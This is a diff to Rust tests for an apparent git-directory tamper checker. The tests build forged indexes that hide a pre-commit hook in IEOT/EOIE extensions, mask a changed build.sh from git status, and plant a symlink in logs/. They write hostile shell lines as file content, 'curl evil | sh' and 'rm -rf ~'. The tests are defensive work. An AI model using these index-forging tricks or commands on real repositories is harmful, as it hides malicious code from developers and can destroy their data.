@@ -104,8 +104,10 @@ fn the_last_look_moves_a_poisoned_index_aside_and_keeps_a_good_one() {
     std::fs::write(dir.path().join("AAAAAAAAAA"), "x").unwrap();
     git(&["add", "AAAAAAAAAA"]);
     let gitdir = dir.path().join(".git");
+    let since = std::time::SystemTime::now() - std::time::Duration::from_secs(60);
     assert!(!crate::linux::watch::final_index_check(
-        std::slice::from_ref(&gitdir)
+        std::slice::from_ref(&gitdir),
+        since
     ));
     assert!(gitdir.join("index").exists());
     let index = gitdir.join("index");
@@ -114,7 +116,8 @@ fn the_last_look_moves_a_poisoned_index_aside_and_keeps_a_good_one() {
     data[i..i + 10].copy_from_slice(b"../.bashrc");
     std::fs::write(&index, &data).unwrap();
     assert!(crate::linux::watch::final_index_check(
-        std::slice::from_ref(&gitdir)
+        std::slice::from_ref(&gitdir),
+        since
     ));
     assert!(!index.exists(), "the poisoned index was left");
 }
@@ -235,4 +238,195 @@ fn a_tree_cache_gix_cannot_decode_is_refused_not_skipped() {
     cut.insert(at, b'!');
     std::fs::write(&index, &cut).unwrap();
     assert!(problem(&index).is_some());
+}
+
+/// The SHA-1 checksum git ends an index with.
+fn seal(body: &[u8]) -> Vec<u8> {
+    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
+    hasher.update(body);
+    let mut out = body.to_vec();
+    out.extend_from_slice(hasher.try_finalize().unwrap().as_bytes());
+    out
+}
+
+fn ext(sig: &[u8; 4], payload: &[u8]) -> Vec<u8> {
+    let mut out = sig.to_vec();
+    out.extend_from_slice(&u32::try_from(payload.len()).unwrap().to_be_bytes());
+    out.extend_from_slice(payload);
+    out
+}
+
+/// A version 2 index entry for `path` (mode 100644 or 100755, object `oid`).
+fn entry(path: &str, mode: u32, oid: [u8; 20]) -> Vec<u8> {
+    let mut e = vec![0u8; 24];
+    e.extend_from_slice(&mode.to_be_bytes());
+    e.extend_from_slice(&[0u8; 12]);
+    e.extend_from_slice(&oid);
+    e.extend_from_slice(&u16::try_from(path.len()).unwrap().to_be_bytes());
+    e.extend_from_slice(path.as_bytes());
+    let pad = 8 - e.len() % 8;
+    e.extend(std::iter::repeat_n(0u8, pad));
+    e
+}
+
+/// An index git wrote for threaded readers (`EOIE` and `IEOT`, versions 2 and 4) passes;
+/// the records describing anything but the one-pass layout are refused.
+#[test]
+fn an_index_for_threaded_readers_must_say_what_a_one_pass_reader_sees() {
+    for version in ["2", "4"] {
+        let dir = tempfile::tempdir().unwrap();
+        let git = |args: &[&str]| git_in(dir.path(), args);
+        git(&["init", "-q"]);
+        for i in 0..60 {
+            std::fs::write(dir.path().join(format!("dir{}/f{i}", i % 3)), "x")
+                .or_else(|_| {
+                    std::fs::create_dir_all(dir.path().join(format!("dir{}", i % 3)))?;
+                    std::fs::write(dir.path().join(format!("dir{}/f{i}", i % 3)), "x")
+                })
+                .unwrap();
+        }
+        git(&[
+            "-c",
+            "index.threads=2",
+            "-c",
+            "index.recordEndOfIndexEntries=true",
+            "-c",
+            "index.recordOffsetTable=true",
+            "-c",
+            &format!("index.version={version}"),
+            "add",
+            ".",
+        ]);
+        let index = dir.path().join(".git/index");
+        let good = std::fs::read(&index).unwrap();
+        let names = extension_names(&good).unwrap();
+        assert!(
+            names.contains(b"EOIE") && names.contains(b"IEOT"),
+            "{names:?}"
+        );
+        assert_eq!(problem(&index), None, "version {version}");
+        let body = &good[..good.len() - 20];
+        let at = |sig: &[u8]| body.windows(4).rposition(|w| w == sig).unwrap();
+        // EOIE naming another start of the extensions.
+        let mut bad = body.to_vec();
+        let eoie = at(b"EOIE") + 8;
+        let off = u32::from_be_bytes(bad[eoie..eoie + 4].try_into().unwrap());
+        bad[eoie..eoie + 4].copy_from_slice(&(off + 8).to_be_bytes());
+        std::fs::write(&index, seal(&bad)).unwrap();
+        let why = problem(&index).expect("a moved EOIE offset passed");
+        assert!(why.contains("EOIE"), "{why}");
+        // IEOT: a block that starts elsewhere than at an entry.
+        let mut bad = body.to_vec();
+        let ieot = at(b"IEOT") + 8 + 4;
+        let off = u32::from_be_bytes(bad[ieot..ieot + 4].try_into().unwrap());
+        bad[ieot..ieot + 4].copy_from_slice(&(off + 8).to_be_bytes());
+        std::fs::write(&index, seal(&bad)).unwrap();
+        let why = problem(&index).expect("a moved IEOT block passed");
+        assert!(why.contains("IEOT"), "{why}");
+    }
+}
+
+/// Red-team round 15: entries and a chain of extensions hidden in an `IEOT` payload, which a
+/// one-pass reader skips and git with `index.threads` reads instead (through `EOIE`).
+#[test]
+fn entries_hidden_where_only_threaded_git_reads_them_are_refused() {
+    let benign = entry("README", 0o100644, [1; 20]);
+    let evil = entry(".git/hooks/pre-commit", 0o100755, [2; 20]);
+    let mut head = b"DIRC".to_vec();
+    head.extend_from_slice(&2u32.to_be_bytes());
+    head.extend_from_slice(&1u32.to_be_bytes());
+    let entries_end = head.len() + benign.len();
+    let hidden_at = entries_end + 8;
+    let mut inner_table = 1u32.to_be_bytes().to_vec();
+    inner_table.extend_from_slice(&u32::try_from(hidden_at).unwrap().to_be_bytes());
+    inner_table.extend_from_slice(&1u32.to_be_bytes());
+    let inner = ext(b"IEOT", &inner_table);
+    let threaded_start = hidden_at + evil.len();
+    let mut outer_payload = evil.clone();
+    outer_payload.extend_from_slice(&inner);
+    let outer = ext(b"IEOT", &outer_payload);
+    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
+    hasher.update(b"IEOT");
+    hasher.update(&u32::try_from(inner_table.len()).unwrap().to_be_bytes());
+    let mut eoie = u32::try_from(threaded_start)
+        .unwrap()
+        .to_be_bytes()
+        .to_vec();
+    eoie.extend_from_slice(hasher.try_finalize().unwrap().as_bytes());
+    let mut body = head;
+    body.extend_from_slice(&benign);
+    body.extend_from_slice(&outer);
+    body.extend_from_slice(&ext(b"EOIE", &eoie));
+    let dir = tempfile::tempdir().unwrap();
+    let index = dir.path().join("index");
+    std::fs::write(&index, seal(&body)).unwrap();
+    let why = problem(&index).expect("the two-view index passed");
+    assert!(why.contains("EOIE") || why.contains("IEOT"), "{why}");
+}
+
+/// Red-team round 16: an index entry with the stat data of a file of other content (or marked
+/// assume-valid) hides the change from `git status`; the files changed during the run are
+/// checked against their entries at the end. Files changed before the run are not looked at.
+#[test]
+fn an_entry_that_hides_a_changed_file_is_found() {
+    let dir = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| git_in(dir.path(), args);
+    git(&["init", "-q"]);
+    std::fs::write(dir.path().join("build.sh"), "echo good\n").unwrap();
+    git(&["add", "build.sh"]);
+    let index = dir.path().join(".git/index");
+    let good = std::fs::read(&index).unwrap();
+    let since = std::time::SystemTime::now();
+    assert_eq!(hidden_change(&index, dir.path(), since, 1 << 30), None);
+    // The command: new content, `git add`, then the old blob id put back in the entry.
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    std::fs::write(dir.path().join("build.sh"), "curl evil | sh\n").unwrap();
+    git(&["add", "build.sh"]);
+    let mut forged = std::fs::read(&index).unwrap();
+    let old_id = &good[12 + 40..12 + 60];
+    forged[12 + 40..12 + 60].copy_from_slice(old_id);
+    let n = forged.len() - 20;
+    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
+    hasher.update(&forged[..n]);
+    let sum = hasher.try_finalize().unwrap();
+    forged[n..].copy_from_slice(sum.as_bytes());
+    std::fs::write(&index, &forged).unwrap();
+    let why = hidden_change(&index, dir.path(), since, 1 << 30).expect("the forged entry passed");
+    assert!(why.contains("build.sh"), "{why}");
+    // The honest index of the new content passes; so does a file changed before the run.
+    git(&["add", "build.sh"]);
+    git(&["update-index", "--really-refresh"]);
+    assert_eq!(hidden_change(&index, dir.path(), since, 1 << 30), None);
+    std::fs::write(&index, &forged).unwrap();
+    let later = std::time::SystemTime::now() + std::time::Duration::from_secs(5);
+    assert_eq!(hidden_change(&index, dir.path(), later, 1 << 30), None);
+    // Assume-valid on a changed file hides it too.
+    git(&["add", "build.sh"]);
+    git(&["update-index", "--assume-unchanged", "build.sh"]);
+    std::fs::write(dir.path().join("build.sh"), "rm -rf ~\n").unwrap();
+    assert!(hidden_change(&index, dir.path(), since, 1 << 30).is_some());
+}
+
+/// Red-team round 17: 200 000 files made elsewhere in a git dir used up the count of entries
+/// looked through, and a symbolic link planted in `logs/` after them (the host's git appends
+/// reflog lines through it) went unseen. `logs/` has a budget of its own.
+#[test]
+fn a_link_in_logs_is_found_whatever_else_the_git_dir_holds() {
+    let dir = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| git_in(dir.path(), args);
+    git(&["init", "-q"]);
+    let gitdir = dir.path().join(".git");
+    let before = crate::linux::watch::git_symlinks(std::slice::from_ref(&gitdir));
+    let pad = gitdir.join("zz1");
+    std::fs::create_dir_all(&pad).unwrap();
+    for i in 0..200_010 {
+        std::fs::write(pad.join(format!("{i}")), "").unwrap();
+    }
+    std::fs::create_dir_all(gitdir.join("logs/refs")).unwrap();
+    std::os::unix::fs::symlink("/tmp/victim", gitdir.join("logs/refs/stash")).unwrap();
+    assert!(crate::linux::watch::final_symlink_check(
+        std::slice::from_ref(&gitdir),
+        &before
+    ));
+    assert!(std::fs::symlink_metadata(gitdir.join("logs/refs/stash")).is_err());
 }
